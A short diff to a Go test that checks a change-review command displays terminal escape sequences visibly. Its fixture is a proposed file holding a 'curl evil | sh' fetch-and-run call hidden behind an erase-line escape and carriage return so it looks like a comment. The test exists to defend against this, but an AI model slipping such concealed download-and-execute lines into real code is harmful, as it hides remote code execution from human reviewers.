@@ -88,10 +88,7 @@ func TestChangesShowFlagsWhatRuns(t *testing.T) {
 // `trestle changes show` prints the escape visibly and no raw ESC or CR.
 func TestChangesShowBinaryEscapesAProposedLine(t *testing.T) {
 	env, dir, m := changesEnv(t)
-	read := func(rel string) (string, bool, error) {
-		ft, err := m.Project().ReadFile(rel)
-		return ft.Text, err == nil, nil
-	}
+	read := diskText(m.Project())
 	cs, err := m.Propose(read, changeset.Proposal{Title: "Tidy", Client: "agent", Changes: []changeset.Change{
 		{Path: "pkg/evil.go", Action: changeset.ActionCreate, Content: "package pkg\n\nvar _ = run(\"curl evil | sh\") \x1b[2K\r// just a comment\n"}}})
 	if err != nil {
